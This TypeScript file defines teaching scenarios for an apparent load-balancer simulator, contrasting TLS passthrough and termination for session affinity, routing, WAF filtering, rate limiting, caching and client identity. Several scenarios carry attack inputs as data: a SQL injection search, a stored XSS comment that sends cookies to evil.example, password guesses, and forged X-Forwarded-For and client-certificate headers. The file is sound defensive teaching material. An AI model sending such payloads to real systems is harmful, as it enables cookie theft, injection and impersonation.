/**
 * The capabilities that appear or disappear with the termination mode (the seed article's whole argument):
 * stickiness, routing, inspection, caching, redirects, the client's address and client certificates.
 */
import { account, addMug, addNotebook, as, home, login, stylesheet, viewCart, whoami } from './requests';
import type { Scenario } from './types';

const NAT_ADDRESS = '203.0.113.50';
const MOBILE_NEW_ADDRESS = '192.0.2.77';
const natUsers = ['ana', 'ben', 'chen', 'dora', 'emil', 'fay'];
/** Log in and fill a cart over separate connections (keep-alive off), then look at it. */
const cartVisit = [login, addMug, addNotebook, viewCart];
const separateConnections = { keepAlive: false, stickyCookie: true } as const;

export const CAPABILITY_SCENARIOS: readonly Scenario[] = [
  {
    id: 'cart',
    title: 'The lost shopping cart',
    summary: 'Log in and fill a cart over separate connections, then view it: does it come back from the right backend?',
    lesson: 'Carts live on one backend. Only an LB that reads HTTP can pin a user to it with a cookie; passthrough with round robin scatters the requests.',
    requests: cartVisit,
    options: { ...separateConnections, algorithm: 'round-robin' },
  },
  {
    id: 'cart-source-ip',
    title: 'Cart with source-IP affinity',
    summary: 'The same cart with balance source: passthrough keeps it, because every connection comes from one address.',
    lesson: 'Hashing the client address is the affinity a layer-4 LB can do. It holds only while the address does.',
    requests: cartVisit,
    options: { ...separateConnections, algorithm: 'source-ip-hash' },
  },
  {
    id: 'mobile-handover',
    title: 'A phone changes networks mid-session',
    summary: 'Source-IP affinity, then the client moves from Wi-Fi to mobile data: its address changes and the cart is gone.',
    lesson: 'A cookie follows the user across addresses; an address hash does not.',
    requests: [login, addMug, { ...addNotebook, sourceIp: MOBILE_NEW_ADDRESS }, { ...viewCart, sourceIp: MOBILE_NEW_ADDRESS }],
    options: { ...separateConnections, algorithm: 'source-ip-hash' },
  },
  {
    id: 'nat-pileup',
    title: 'Six users behind one NAT',
    summary: 'An office of six shares one public address: source-IP affinity sends them all to one backend.',
    lesson: 'Behind a corporate NAT or a second proxy, source-IP affinity piles everyone onto one server. Cookies spread them and still keep each cart.',
    requests: natUsers.flatMap((u) => [as(u, login, NAT_ADDRESS), as(u, addMug, NAT_ADDRESS)]).concat(natUsers.map((u) => as(u, viewCart, NAT_ADDRESS))),
    options: { keepAlive: false },
    modeOptions: {
      passthrough: { algorithm: 'source-ip-hash', stickyCookie: false },
      offload: { algorithm: 'round-robin', stickyCookie: true },
      bridge: { algorithm: 'round-robin', stickyCookie: true },
    },
  },
  {
    id: 'pool-routing',
    title: 'Routing by name and by path',
    summary: 'api.example.com and /api/* belong to an API pool: which of them can a passthrough LB tell apart?',
    lesson: 'A layer-4 LB routes on the SNI in the ClientHello; the URL path is encrypted, so only a terminating LB can route /api/* by path.',
    requests: [home, { method: 'GET', path: '/api/status', purpose: 'call the API through the shop\'s hostname' }, { method: 'GET', path: '/api/status', host: 'api.example.com', purpose: 'call the API through its own hostname' }],
    options: { poolRouting: true, keepAlive: false },
  },
  {
    id: 'sqli',
    title: 'SQL injection past the WAF',
    summary: "A search for ' OR '1'='1: the WAF blocks it where it can read the request; in passthrough it reaches the database.",
    lesson: 'A WAF needs plaintext. In passthrough it is handed TLS records, cannot parse them, and the attack goes through.',
    requests: [{ method: 'GET', path: '/search?q=mug', purpose: 'an ordinary search' }, { method: 'GET', path: "/search?q=%27%20OR%20%271%27%3D%271", purpose: "a search for ' OR '1'='1, a classic SQL injection" }],
    options: { waf: true },
  },
  {
    id: 'xss',
    title: 'Stored XSS in a comment',
    summary: 'A comment carrying a <script> tag: blocked at a reading LB, stored by the shop behind a passthrough one.',
    lesson: 'Cross-site scripting travels in the request body, which only a terminating LB can see.',
    requests: [{ method: 'POST', path: '/comment', body: 'comment=%3Cscript%3Efetch(%27https%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie)%3C%2Fscript%3E', purpose: 'post a comment with a script that steals cookies' }, home],
    options: { waf: true },
  },
  {
    id: 'login-burst',
    title: 'A burst of login attempts',
    summary: 'Six password guesses in a second on one connection: who can count them?',
    lesson: 'Rate limits per client and path need HTTP. A layer-4 LB can only count connections, and a keep-alive connection carries the whole burst.',
    requests: ['123456', 'password', 'qwerty', 'letmein', 'dragon', 'correct-horse'].map((p, i) => ({ method: 'POST', path: '/login', body: `password=${p}&user=alice`, purpose: `password guess ${i + 1}` })),
    options: { loginRateLimit: 3, keepAlive: true },
  },
  {
    id: 'static-cache',
    title: 'Caching and compression at the LB',
    summary: 'The stylesheet twice: a reading LB caches it and gzips it; a passthrough LB can do neither.',
    lesson: 'Caching and compression work on HTTP responses, so they need the LB to terminate TLS.',
    requests: [stylesheet, stylesheet],
    options: { cache: true, compression: true },
  },
  {
    id: 'http-redirect',
    title: 'http:// redirected to https://',
    summary: 'A visit to http://shop.example.com: who answers with the redirect?',
    lesson: 'A layer-7 LB redirects port 80 itself. A layer-4 LB can only forward it to a backend, which must redirect on its own.',
    requests: [{ method: 'GET', path: '/', scheme: 'http', purpose: 'type the address without https' }],
  },
  {
    id: 'client-ip',
    title: "The client's address at the backend",
    summary: 'Who does the backend think the client is? Try PROXY protocol v1 and v2 in passthrough.',
    lesson: 'Behind a layer-4 LB the TCP peer is the LB; PROXY protocol carries the real address. A layer-7 LB writes it into X-Forwarded-For.',
    requests: [whoami],
  },
  {
    id: 'proxy-mismatch',
    title: 'PROXY protocol on one side only',
    summary: 'The LB sends a PROXY v2 header but the backends do not expect one: every connection breaks.',
    lesson: 'PROXY protocol must be switched on at both ends together: the receiver never guesses.',
    requests: [whoami],
    options: { proxyProtocol: 'v2', backendProxyProtocol: 'off' },
  },
  {
    id: 'xff-forged',
    title: 'A forged X-Forwarded-For',
    summary: 'The client sends X-Forwarded-For: 6.6.6.6 itself. What does the backend believe?',
    lesson: 'A terminating LB appends the real address and the backend trusts only the right-most entry. Through passthrough, the forged header arrives untouched from a trusted peer.',
    requests: [{ ...whoami, headers: [['X-Forwarded-For', '6.6.6.6']], purpose: 'claim to be 6.6.6.6' }],
  },
  {
    id: 'mtls',
    title: 'Client certificates (mTLS)',
    summary: 'Alice presents a client certificate: who verifies it, and how does the backend learn who she is?',
    lesson: 'In passthrough the backend verifies the real certificate; a terminating LB verifies it and forwards the identity in a header the backend must only accept from the LB.',
    requests: [account, { ...account, direct: 'backend-2', headers: [['X-SSL-Client-Cert-Subject', 'CN=admin']], purpose: 'an attacker reaches backend-2 directly, claiming CN=admin in a forged header' }],
    options: { clientCertificate: true },
  },
  {
    id: 'redirect-loop',
    title: 'Redirect loop behind an offloading LB',
    summary: 'The backends insist on HTTPS but the LB sends them HTTP without X-Forwarded-Proto: an endless redirect.',
    lesson: 'After offloading, the backend sees plain HTTP. It must trust X-Forwarded-Proto from the LB, or it redirects forever.',
    requests: [home],
    options: { backendForcesHttps: true, forwardedProto: false },
  },
];
